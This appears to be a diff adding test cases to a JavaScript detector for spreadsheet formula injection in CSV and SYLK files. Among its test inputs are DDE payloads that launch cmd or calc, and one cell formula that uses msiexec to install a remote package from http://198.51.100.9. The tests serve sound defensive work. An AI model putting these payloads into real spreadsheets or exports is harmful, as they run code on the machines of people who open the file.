@@ -261,8 +261,28 @@ describe('what tells a document that loads from elsewhere', () => {
     ['=SUM(A1:A9)', 0],
     ['pipe|separated|values\n=x|y', 0],
     ['the cmd | pipe, explained', 0],
+    ["=msiexec|'/q /i http://198.51.100.9/a.msi'!A0", 1],
+    ["a;b\n1;=x.y|'anything'!''", 1],
+    ['1,"=SUM(1,2)*run |\' /C calc\' !A0"', 1],
+    ["=1+\ncmd|'/c calc'!A0", 1],
+    ['=cmd|calc!A0', 1],
+    ["=cmd|'/c calc'", 0], // no item: Excel takes it for text
+    ['Kurs;Inhalt\n"Office 1";"- Excel | Word | PowerPoint"', 0],
+    ['1;"- excel | 5 pieces"\n2;-Excel course|2 days', 0],
+    ["1;the word|'topic'!item in a text", 0],
+    [`${"x|'y'!z\n".repeat(2_001)}`, 1], // no list, and it may have one further on
   ])('a cell %j', async (text, count) => {
     expect(await seen('a.csv', text)).toHaveLength(count);
+  });
+  test.each([
+    ["C;Y1;X1;K0;EMSEXCEL|'\\..\\cmd.exe /c calc'!''", 1],
+    ["C;X1;E1+run|'/c calc'!A0;K0", 1],
+    ["NN;Nx;Erun|'/c calc'!A0", 1],
+    ['C;X1;ESUM(R1C1:R9C1)', 0],
+    ['C;X1;K"Excel|Word"', 0],
+    ["C;X1;K0\nO;run|'/c calc'!A0", 0],
+  ])('a SYLK record %j', async (record, count) => {
+    expect(await seen('a.csv', `ID;PWXL;N;E\n${record}\nE\n`)).toHaveLength(count);
   });
 });
 
